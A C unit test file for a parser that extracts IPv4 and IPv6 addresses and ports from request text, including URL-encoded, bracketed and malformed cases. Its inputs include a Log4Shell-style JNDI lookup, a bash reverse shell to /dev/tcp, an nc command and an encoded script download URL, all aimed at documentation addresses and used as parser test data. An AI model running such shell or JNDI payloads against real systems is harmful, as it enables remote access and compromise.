/* test_address_text.c - addresses in requests, however they are written, and what only looks like one
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#include "wireshark/protocols/address_text.h"

#include <string.h>

/* "192.0.2.1 80, 2001:db8::1 0" of a copy, so that a sanitizer sees what is read beyond it. */
static char *found_in(const char *text, gsize length) {
  guint8 *copy = g_memdup2(text, MAX(length, 1));
  GString *all = g_string_new(NULL);
  HgAddressText found;
  gsize at = 0;
  while (hg_address_text_next(copy, length, &at, &found)) {
    char *address = hg_address_to_text(&found.address);
    g_assert_cmpuint(at, <=, length);
    g_string_append_printf(all, "%s%s %u", all->len ? ", " : "", address, found.port);
    g_free(address);
  }
  g_free(copy);
  return g_string_free(all, FALSE);
}

static void check(const char *text, const char *expected) {
  char *found = found_in(text, strlen(text));
  g_assert_cmpstr(found, ==, expected);
  g_free(found);
}

static void test_ipv4(void) {
  check("192.0.2.1", "192.0.2.1 0");
  check("${jndi:ldap://192.0.2.1:1389/a}", "192.0.2.1 1389");
  check("x=http%3A%2F%2F192.0.2.1%3A80%2Fx.sh", "192.0.2.1 80");
  check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "192.0.2.1 4444");
  check("GET http://192.0.2.1/80 HTTP/1.1", "192.0.2.1 0");
  check("nc 192.0.2.1 4444; ping 198.51.100.255.", "192.0.2.1 0, 198.51.100.255 0");
  check("192.0.2.1:99999 192.0.2.2:0", "192.0.2.1 0, 192.0.2.2 0");
}

static void test_ipv6(void) {
  check("ldap://[2001:db8::1]:1389/a", "2001:db8::1 1389");
  check("%5B2001%3Adb8%3A%3A1%5D%3A80", "2001:db8::1 80");
  check("/dev/tcp/[2001:db8::1]/80", "2001:db8::1 80");
  check("[::ffff:192.0.2.1]", "::ffff:192.0.2.1 0");
  check("[2001:db8::1", "");
  check("[2001:db8::1::2] [12:34] [] [abc] [g::1]", "");
}

/* Versions, object identifiers, numbers. */
static void test_others(void) {
  check("", "");
  check("1.2.3", "");
  check("1.2.3.4.5", "");
  check("Chrome/92.0.4515.159", "");
  check("v1.2.3.4 1.2.3.4a 256.1.1.1 0001.2.3.4 1..2.3", "");
  check("a.b.c.d ....", "");
}

static void test_cut_off(void) {
  const char *text = "a%5B2001%3Adb8%3A%3A1%5D%3A80 /dev/tcp/192.0.2.1/4444";
  for (gsize length = 0; length <= strlen(text); length++)
    g_free(found_in(text, length));
}

int main(int argc, char **argv) {
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/address-text/ipv4", test_ipv4);
  g_test_add_func("/address-text/ipv6", test_ipv6);
  g_test_add_func("/address-text/others", test_others);
  g_test_add_func("/address-text/cut-off", test_cut_off);
  return g_test_run();
}
